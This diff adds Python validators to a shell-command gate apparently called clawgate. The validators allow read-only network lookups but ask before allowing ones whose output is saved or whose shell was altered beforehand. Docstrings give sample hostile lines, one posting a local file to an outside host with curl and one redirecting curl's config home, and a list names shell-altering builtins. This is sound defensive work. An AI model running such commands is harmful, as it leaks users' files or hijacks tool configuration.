@@ -1,0 +1,101 @@
+"""The verdicts on read-only lookups (``lookups.py``): the lookup itself, ALLOW at medium
+risk with its reason; and what the rest of its line does to it: a later stage of its
+pipeline that keeps the answer in a file, or an earlier command that changes the shell the
+client runs in (its environment, its output, what its name means)."""
+
+from __future__ import annotations
+
+from clawgate.decision import Outcome, Risk, Verdict
+from clawgate.shell.model import ParsedLine, SimpleCommand
+from clawgate.validators.base import Context, LineValidator, Validator, register
+from clawgate.validators.lookups import is_lookup
+from clawgate.validators.lookuptables import CLIENTS
+from clawgate.validators.paths import QUIET_DEVICES
+from clawgate.validators.writes import may_write, write_targets
+
+# Builtins that change what a later command of the same shell runs with: exported or
+# assigned variables (``http_proxy``, ``CURL_HOME``, ``WGETRC``, ``SSLKEYLOGFILE``), files
+# read into the shell, the shell's own output (``exec >file``), what a name runs.
+_CHANGES_SHELL = frozenset({"export", "declare", "typeset", "readonly", "local", "set",
+                            "source", ".", "eval", "alias", "unset", "shopt", "enable",
+                            "exec", "hash", "builtin", "command", "trap"})
+
+
+@register
+class PrintedLookup(Validator):
+    """A read-only network lookup that sends nothing of the user's to a public name and
+    only shows its answer (``lookups.is_lookup``): ALLOW at medium risk, with this reason.
+    The same client with data, a credential, a config file, a proxy, an expansion, a private
+    address or its answer saved keeps the network's high risk and is asked about.
+
+    Bad: ``curl -d @notes.txt https://example.com/`` (a file leaves: not a lookup).
+    Harmless: ``dig +short github.com``.
+    """
+
+    id = "CG-NET-003"
+    programs = frozenset(CLIENTS)
+
+    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
+        if not is_lookup(cmd):
+            return Verdict.passthrough()
+        return Verdict.of(Outcome.ALLOW, self.id, f"{cmd.program} is a read-only lookup of a "
+                          "public address: nothing of the user's leaves and the answer is shown "
+                          "(medium risk)", risk=Risk.MEDIUM)
+
+
+@register
+class LookupLine(LineValidator):
+    """A read-only lookup whose line keeps its answer or changes its shell first: a later
+    stage of its pipeline writes the answer to a file (a later command may run what is
+    saved), or an earlier command exports or assigns variables, sources a file, redirects
+    the shell's output or defines functions (a proxy, a config home, a key log, another
+    program by the client's name). ASK at high risk, as any network command.
+
+    Bad: ``export CURL_HOME=.; curl -s https://example.com``. Harmless:
+    ``curl -s https://api.github.com/repos/python/cpython | jq .stargazers_count``.
+    """
+
+    id = "CG-NET-004"
+
+    def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
+        commands = parsed.commands
+        for index, cmd in enumerate(commands):
+            if cmd.program not in CLIENTS or not is_lookup(cmd):
+                continue
+            saved = _saved(cmd, commands[index + 1:])
+            if saved is not None:
+                return Verdict.of(Outcome.ASK, self.id, f"the answer of {cmd.program} is "
+                                  f"kept in {saved}; a later command may run what is kept",
+                                  hint="print the answer, or save it and read it first",
+                                  risk=Risk.HIGH)
+            changed = _changes_shell(commands[:index], commands)
+            if changed is not None:
+                return Verdict.of(Outcome.ASK, self.id, f"{changed} before {cmd.program} on "
+                                  "the same line may change where it sends and what it "
+                                  "reads (a proxy, a config file, a key log, another "
+                                  "program by its name)", risk=Risk.HIGH)
+        return Verdict.passthrough()
+
+
+def _saved(cmd: SimpleCommand, later: tuple[SimpleCommand, ...]) -> str | None:
+    """The file a later stage of ``cmd``'s pipeline writes, if one does."""
+    for stage in later:
+        if stage.pipeline != cmd.pipeline or stage.stage <= cmd.stage or not may_write(stage):
+            continue
+        for target in write_targets(stage):
+            if target.value not in QUIET_DEVICES:
+                return target.shown
+    return None
+
+
+def _changes_shell(before: tuple[SimpleCommand, ...],
+                   line: tuple[SimpleCommand, ...]) -> str | None:
+    for cmd in line:
+        if "function" in cmd.nesting:
+            return "a function defined"
+    for cmd in before:
+        if not cmd.words and cmd.assignments:
+            return f"assigning {cmd.assignments[0].name}"
+        if cmd.program in _CHANGES_SHELL:
+            return f"`{cmd.program}`"
+    return None
